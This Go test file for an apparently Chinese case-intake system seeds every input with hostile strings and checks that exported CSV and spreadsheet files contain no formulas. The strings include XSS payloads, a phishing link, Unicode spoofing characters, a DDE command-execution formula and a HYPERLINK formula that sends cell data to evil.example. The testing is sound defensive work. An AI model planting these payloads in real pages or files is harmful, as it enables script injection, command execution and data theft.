package console_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"diaoxiao/api"
	"diaoxiao/internal/receiver/httpapi"
	"diaoxiao/internal/receiver/intake"
	"diaoxiao/internal/receiver/register"
	"diaoxiao/internal/receiver/staff"
)

// hostile are texts that break pages, tables and terminals which take them for more than text.
var hostile = []string{
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(2)>`, `' onmouseover='alert(3)' x='`,
	`</title></textarea><svg onload=alert(4)>`, `javascript:alert(5)`,
	`{{.Secret}}${alert(6)}`, `<a href="https://evil.example/">点此登录</a>`, `&lt;script&gt;alert(7)&lt;/script&gt;`,
	`]]><xss-probe>`, `<style>*{display:none}</style>`,
	`=cmd|'/c calc'!A1`, `+1+1`, `-2+3`, `@SUM(A1:A9)`, `=HYPERLINK("https://evil.example/?"&A1,"点此")`, "\u202e司公张三",
	"张\u200b三", "a\u0301\u0301\u0301\u0301\u0301", "𠮷野家\ue000",
}

var newcomer = staff.OperatorSpec{Name: "newcomer", Person: "新人", Phone: "0471-0000000", Role: intake.Clerk,
	Identifier: "newcomer"}

// fullHouse has something hostile wherever a person or a machine may write.
func fullHouse(t *testing.T) (h *house, accepted []string) {
	h = openHouse(t)
	ctx := t.Context()
	root := intake.Actor("cli:root")
	s := h.admit(`<b>甲</b>"市监'局`)
	h.admit("乙局")
	for _, body := range hostileBodies(t) {
		s.call(api.Receive, "?access_token="+s.token, string(body))
	}
	for i, text := range hostile {
		accepted = append(accepted, s.send(hostileCase(i, text)))
	}
	h.importRegister("2026-11-20", hostileFirms()...)
	h.wait(time.Hour)
	h.verify()
	s.call(api.Receive, "?access_token="+url.QueryEscape(hostile[0]), "{")
	s.call(api.Receive, "?access_token="+s.token, `{"caseid":"<script>alert(8)</script>","caseid":1}`)
	s.call(api.Login, "", `{"appKey":"<script>alert(9)</script>","appSecret":"x","account":"x"}`)
	for i, id := range accepted {
		h.must(h.AddNote(ctx, root, id, hostile[i]))
		switch i % 4 {
		case 0:
			h.must(h.AskReturn(ctx, root, id, hostile[i], ""))
		case 1:
			h.must(h.AskReturn(ctx, root, id, hostile[i], ""))
			h.must(h.WithdrawReturn(ctx, root, id))
		case 2:
			h.must(h.ReturnCase(ctx, id, hostile[i]))
		}
	}
	s.login()
	again := hostileCase(2, hostile[2])
	again.PenaltyList[0].Legal = hostile[3]
	s.send(again)
	h.verify()
	_, err := h.CreateOperator(ctx, root, staff.OperatorSpec{Name: "hostile", Person: hostile[0], Phone: hostile[1],
		Role: intake.Clerk, Identifier: "hostile"})
	h.must(err)
	h.strangeVisit()
	loader := h.enter(intake.SystemAdmin, "loader")
	a := loader.upload(full, hostile[0]+".csv", csvOf(hostileFirms()...))
	loader.awaits(a.Location, "确认导入")
	h.recordCalls()
	return h, accepted
}

// hostileFirms have the texts in each of their values that takes them; the first are those of hostile cases.
func hostileFirms() (fs []register.Firm) {
	fs = ordinary(len(hostile))
	for i, text := range hostile {
		f := &fs[i]
		f.PripID, f.Name, f.Legal, f.Organ = fmt.Sprint("15010400002201707173", i), text+"公司", text, text
		f.EntType, f.StateText = text, text
	}
	return fs
}

// legible is what a person reads of a text: what cannot be seen is written out.
func legible(text string) string {
	return strings.NewReplacer("\u202e", `\u202e`, "\u200b", `\u200b`).Replace(text)
}

// strangeVisit is an operator whose browser calls itself something hostile, and mistypes the user name.
func (h *house) strangeVisit() {
	h.enter(intake.Clerk, "stranger1")
	h.wait(time.Minute)
	for _, name := range []string{hostile[0], "stranger1"} {
		r, _ := http.NewRequest("POST", h.console.URL+"/console/login",
			strings.NewReader(form("name", name, "password", password, "code", h.code()).Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("User-Agent", hostile[1])
		w, err := h.stranger().Client.Do(r)
		h.must(err)
		w.Body.Close()
	}
}

// hostileBodies are the vectors of the interface that are accepted.
func hostileBodies(t *testing.T) (bodies [][]byte) {
	data, err := os.ReadFile("../../../api/testdata/caseinfo-hostile.ndjson")
	if err != nil {
		t.Fatal(err)
	}
	for line := range bytes.Lines(data) {
		var v struct {
			Expect string
			B64    string
		}
		if err := json.Unmarshal(line, &v); err != nil {
			t.Fatal(err)
		}
		body, err := base64.StdEncoding.DecodeString(v.B64)
		if err != nil {
			t.Fatal(err)
		}
		bodies = append(bodies, body)
	}
	return bodies
}

// hostileCase has the text in each of its members that takes it.
func hostileCase(i int, text string) api.Case {
	short := text
	if rs := []rune(text); len(rs) > 40 {
		short = string(rs[:40])
	}
	return api.Case{CaseID: fmt.Sprint(short, "〔2026〕", i), CaseName: text, CaseIntroduction: text, Illegality: text,
		Penalty: text, PenaltyDate: "2026-11-16", PenaltyOrg: text,
		PenaltyList: []api.Entity{
			{PripID: fmt.Sprint("15010400002201707173", i), UniscID: "91150104MA0N967166", Legal: text,
				EntType: "1151"},
			{PripID: short, UniscID: "9115<b>А4MА0N967", Legal: text, EntType: "1"},
		}}
}

// harmless fails for a file whose cells are computed by the program that opens it.
func (h *house) harmless(path string, a answer) {
	h.Helper()
	h.saved++
	kind := a.Header.Get("Content-Type")
	switch {
	case strings.HasPrefix(kind, "text/csv"):
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.Body, "\ufeff"))).ReadAll()
		h.must(err)
		if len(rows) == 0 { // not even the heads
			h.Errorf("%s: empty", path)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					h.Errorf("%s: a cell that is computed: %q", path, cell)
				}
			}
		}
	case strings.Contains(kind, "spreadsheetml"):
		h.harmlessSheet(path, a)
	default:
		h.Logf("%s: %s, %d bytes", path, kind, len(a.Body))
	}
}

func (h *house) harmlessSheet(path string, a answer) {
	h.Helper()
	f, err := excelize.OpenReader(strings.NewReader(a.Body))
	h.must(err)
	defer f.Close()
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		h.must(err)
		for y, row := range rows {
			for x := range row {
				cell, err := excelize.CoordinatesToCellName(x+1, y+1)
				h.must(err)
				kind, err := f.GetCellType(sheet, cell)
				h.must(err)
				if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" ||
					kind == excelize.CellTypeFormula {
					h.Errorf("%s %s %s: computed: %q (%v)", path, sheet, cell, formula, err)
				}
			}
		}
	}
}

// observed notes a call of the front door as the server does.
func (h *house) observed(r httpapi.Record) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.calls = append(h.calls, intake.Call{At: h.now(), Name: string(r.Call), AppID: r.AppID, AppKey: r.AppKey,
		Account: r.Account, CaseID: r.CaseID, AcceptID: r.AcceptID,
		Outcome: r.Outcome, Codes: r.Codes, Told: r.Told, Cause: r.Cause,
		Status: r.Status, Bytes: r.Bytes, Items: r.Items, Took: r.Duration,
		RequestID: r.RequestID, Source: r.Source})
}

// recordCalls writes the calls there were into the request log.
func (h *house) recordCalls() {
	h.Helper()
	h.mu.Lock()
	calls := h.calls
	h.calls = nil
	h.mu.Unlock()
	h.must(h.store.Background(context.Background(), func(tx intake.Tx) error { return tx.PutCalls(calls) }))
}
